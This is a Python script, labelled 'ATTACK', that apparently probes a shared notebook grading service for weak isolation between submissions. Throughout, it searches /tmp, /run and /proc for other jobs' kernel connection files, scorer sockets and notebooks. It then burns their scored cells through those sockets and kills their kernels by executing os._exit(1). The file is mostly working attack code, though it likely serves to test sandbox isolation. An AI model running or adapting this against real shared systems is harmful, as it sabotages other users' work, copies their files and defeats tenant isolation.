# ATTACK: reach other submissions: their kernels' connection files (to run code in them), the
# scorer sockets of other jobs (to use up their scored cells), their notebooks (to copy them).
# It keeps looking for 30 s, so that another job of the batch is surely running meanwhile.
import glob
import json
import os
import socket
import time

from labs import wire

own_socket = os.environ.get("LABS_SCORER_SOCKET", "/run/labs/scorer.sock")
own = os.path.realpath(__import__("ipykernel.connect").connect.get_connection_file())


def same_file(a, b):
    try:
        return (os.stat(a).st_ino, os.stat(a).st_dev) == (os.stat(b).st_ino, os.stat(b).st_dev)
    except OSError:
        return False


def look():
    found = {"connection files": set(), "sockets": set(), "notebooks": set()}
    roots = ["/tmp", "/run", "/dev/shm", *glob.glob("/proc/*/root/tmp"), *glob.glob("/proc/*/root/run")]
    for root in roots:
        for path in glob.glob(os.path.join(root, "**", "*"), recursive=True)[:5000]:
            if path.endswith(".json"):
                try:
                    if "shell_port" in open(path).read(4096):
                        found["connection files"].add(path)
                except OSError:
                    pass
            elif os.path.exists(path) and not os.path.isdir(path) and "scorer" in path:
                found["sockets"].add(path)
    for process in glob.glob("/proc/[0-9]*"):
        try:
            environ = open(f"{process}/environ", "rb").read().decode("latin-1").split("\0")
            command = open(f"{process}/cmdline", "rb").read().decode("latin-1").split("\0")
        except OSError:
            continue
        found["sockets"] |= {item.split("=", 1)[1] for item in environ if item.startswith("LABS_SCORER")}
        found["connection files"] |= {arg for arg in command if arg.endswith(".json") and "kernel" in arg}
    found["sockets"] = {p for p in found["sockets"] if not same_file(p, own_socket)}
    found["connection files"] = {p for p in found["connection files"] if os.path.realpath(p) != own}
    found["notebooks"] = set(glob.glob("../../*/*/*.ipynb") + glob.glob("/proc/*/cwd/../*/*/*.ipynb"))
    return found


deadline = time.time() + 30
while not any((found := look()).values()) and time.time() < deadline:
    time.sleep(0.5)
others = sorted(found["sockets"])
for path in others:                                    # another job's scorer: use up its cells
    for cell in ("lab5_model_quality", "lab5_make_cosines", "lab6_forecast_TSLA"):
        try:
            connection = socket.socket(socket.AF_UNIX)
            connection.settimeout(2)
            connection.connect(path)
            wire.send(connection.makefile("wb"), {"kind": "cell", "cell": cell})
            connection.close()
        except OSError:
            pass
for path in found["connection files"]:
    try:
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("import os; os._exit(1)")       # kill the other student's kernel
    except Exception:  # noqa: BLE001
        pass
print({kind: len(paths) for kind, paths in found.items()}, "other scorers:", json.dumps(sorted(others))[:200])
